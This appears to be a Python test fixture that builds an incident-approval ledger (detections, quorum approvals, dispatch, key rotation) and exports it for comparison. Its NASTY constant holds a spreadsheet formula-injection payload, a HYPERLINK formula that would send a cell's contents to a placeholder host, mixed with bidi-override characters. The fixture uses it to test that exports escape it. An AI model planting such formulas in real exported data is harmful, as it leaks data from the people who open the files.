"""A ledger with a little of everything, and the folder that is exported from it."""

from __future__ import annotations

import asyncio
from collections.abc import Sequence
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from ledger import checkpoint as notes
from ledger.entry import Back, Blob, Draft, format_time
from ledger.exporting.export import Format, export
from ledger.exporting.part import Choice
from ledger.exporting.source import stored
from ledger.stores import opening, rotation
from tests.ledger.books import DIGEST, ORIGIN, START
from tests.ledger.files import KEY, Files

NAME = notes.log_origin(ORIGIN, "default")
NEXT_KEY = Ed25519PrivateKey.from_private_bytes(bytes(range(1, 33)))
VKEY = notes.verifier_key(NAME, KEY.public_key())
NASTY = '=HYPERLINK("http://x/?"&A1);\t+1\n"quoted" \\ \u202e\u2028 naïve; =2 -3, @SUM \u0085'
POLICY = Blob("policy", b"policy: {name: payments, version: '1.0.0'}\n")
DECIDED: dict[str, Any] = {"policy_version": "1.0.0", "policy_digest": POLICY.digest}


class Clock:
    """A time that goes on by a second whenever it is asked."""

    def __init__(self) -> None:
        self.now = START

    def __call__(self) -> datetime:
        self.now += timedelta(seconds=1)
        return self.now


class Writer:
    """Posts whole stories."""

    def __init__(self, files: Files, clock: Clock, *, tenant: str = "default") -> None:
        self._files = files
        self._clock = clock
        self._tenant = tenant
        self._number = 0

    async def write(self, stories: int, key: Any = KEY) -> None:
        """A policy is adopted, and then so many stories."""
        self._journal = await self._files.open(clock=self._clock, tenants=[self._tenant], key=key)
        given: dict[str, Any] = {"body": {"name": "payments"}, "blobs": (POLICY,), **DECIDED}
        await self._post(Draft(self._id("adopt"), "ADOPTED", "operator:root", **given))
        for _ in range(stories):
            await self._story()
        await self._journal.close()

    async def _post(self, *drafts: Draft) -> list[int]:
        receipt = await self._journal.post(self._tenant, drafts)
        return [entry.index for entry in receipt.entries]

    def _id(self, word: str) -> str:
        self._number += 1
        return f"{word}:{self._number}"

    async def _detected(self) -> tuple[str, int]:
        name = self._id("inc")
        payload = Blob("payload", f'{{"alerts": "{name}"}}'.encode())
        _, _, watched = await self._post(
            Draft(self._id("receive"), "RECEIVED", "alertmanager", blobs=(payload,)),
            Draft(self._id("evaluate"), "EVALUATED", "policy", settles=Back(0)),
            Draft(self._id("watch"), "WATCHED", "policy", cites=(Back(0),), **DECIDED),
        )
        given: dict[str, Any] = {"incident_id": name, "settles": watched, "reason": NASTY, **DECIDED}
        (detected,) = await self._post(Draft(f"detect:{watched}", "DETECTED", "policy", **given))
        return name, detected

    async def _proposed(self, name: str, quorum: int = 1) -> int:
        now = self._clock.now
        body = {"digest": DIGEST, "quorum": quorum, "approvers": ["rudo", "tendai"]} | {
            "expires_at": format_time(now + timedelta(minutes=10)),
            "authorize_until": format_time(now + timedelta(minutes=12)),
        }
        (index,) = await self._post(
            Draft(self._id("propose"), "PROPOSED", "policy", incident_id=name, body=body, **DECIDED)
        )
        return index

    async def _answered(self, name: str, proposal: int, stage: str, person: str, *more: Draft) -> int:
        heard = Draft(self._id("heard"), "HEARD", "carrier:whatsapp", body={"person": person})
        given: dict[str, Any] = {"incident_id": name, "settles": Back(0), "cites": (proposal,)}
        _, index, *_ = await self._post(heard, Draft(self._id("answer"), stage, f"engineer:{person}", **given), *more)
        return index

    async def _story(self) -> None:
        """One that is declined, asked again, approved by two, run without an answer, written off, and closed."""
        name, detected = await self._detected()
        of: dict[str, Any] = {"incident_id": name}
        (asked,) = await self._post(Draft(self._id("consult"), "CONSULTED", "system", **of))
        said: dict[str, Any] = {"settles": asked, "confidence": "0.87", "blobs": (Blob("answer", b"because"),)}
        await self._post(Draft(self._id("diagnose"), "DIAGNOSED", "claude", reason="because", **of, **said))
        first = await self._proposed(name)
        rejected = Draft(f"reject:{first}", "REJECTED", "policy", settles=first, **of, **DECIDED)
        await self._answered(name, first, "DECLINED", "rudo", rejected)
        second = await self._proposed(name, quorum=2)
        (message,) = await self._post(Draft(self._id("address"), "ADDRESSED", "system", cites=(second,), **of))
        await self._post(Draft(self._id("deliver"), "DELIVERED", "carrier:whatsapp", settles=message, **of))
        approvals = [await self._answered(name, second, "APPROVED", person) for person in ("rudo", "tendai")]
        yes: dict[str, Any] = {"decision": "approve", "settles": second, "cites": tuple(approvals), **of, **DECIDED}
        sent: dict[str, Any] = {"settles": Back(0), "body": {"digest": DIGEST}, **of, **DECIDED}
        _, run = await self._post(
            Draft(f"authorize:{second}", "AUTHORIZED", "engineer:tendai", **yes),
            Draft(f"dispatch:{second}", "DISPATCHED", "policy", **sent),
        )
        (lost,) = await self._post(Draft(f"result:{run}", "UNRESOLVED", "system", settles=run, **of))
        (ran,) = await self._post(Draft(f"settle:{lost}", "EXECUTED", "operator:root", settles=lost, **of))
        await self._post(
            Draft(f"confirm:{ran}", "CONFIRMED", "policy", settles=ran, **of, **DECIDED),
            Draft(f"recover:{detected}", "RECOVERED", "policy", settles=detected, **of, **DECIDED),
        )
        (halted,) = await self._post(Draft(self._id("halt"), "HALTED", "engineer:rudo", reason="month's end"))
        await self._post(Draft(f"resume:{halted}", "RESUMED", "engineer:tendai", settles=halted))
        await self._post(Draft(self._id("note"), "NOTED", "operator:root", reason=NASTY, body={"text": NASTY}, **of))
        await self._detected()  # and another incident, that stays open


@dataclass(frozen=True, slots=True)
class Exported:
    """A ledger's files, a folder that was exported from it, and the key that is in force."""

    files: Files
    folder: Path
    key: Ed25519PrivateKey = KEY

    def text(self, name: str) -> str:
        return (self.folder / name).read_text(encoding="utf-8")

    def lines(self) -> Sequence[bytes]:
        """The entries."""
        return (self.folder / "entries.jsonl").read_bytes().splitlines()

    def again(self, folder: Path, choice: Choice | None = None, form: Format = Format.TILES) -> Exported:
        """The same ledger, exported once more."""
        with stored(self.files.path, ORIGIN, "default", self.key.public_key()) as source:
            export(source, folder, choice, form)
        return Exported(self.files, folder, self.key)

    def bytes(self) -> dict[str, bytes]:
        """Every file of the folder."""
        found = (path for path in self.folder.rglob("*") if path.is_file())
        return {path.relative_to(self.folder).as_posix(): path.read_bytes() for path in found}


def exported(folder: Path, stories: int = 1, *, rotated: bool = False) -> Exported:
    """A new ledger with so many stories (30 entries each), and its export.

    rotated: the key is changed after the stories, and one more follows.
    """
    files, clock = Files(folder / "ledger"), Clock()
    files.folder.mkdir(parents=True)
    writer = Writer(files, clock)
    asyncio.run(writer.write(stories))
    key = KEY
    if rotated:
        key, store = NEXT_KEY, opening.Store(files.path, ORIGIN, KEY.public_key())
        given: dict[str, Any] = {"anchor_path": files.prefix, "tenants": ["default"], "clock": clock}
        rotation.rotate(store, KEY, key, by="root", reason="a new year", **given)
        asyncio.run(writer.write(1, key))
    return Exported(files, folder, key).again(folder / "export")
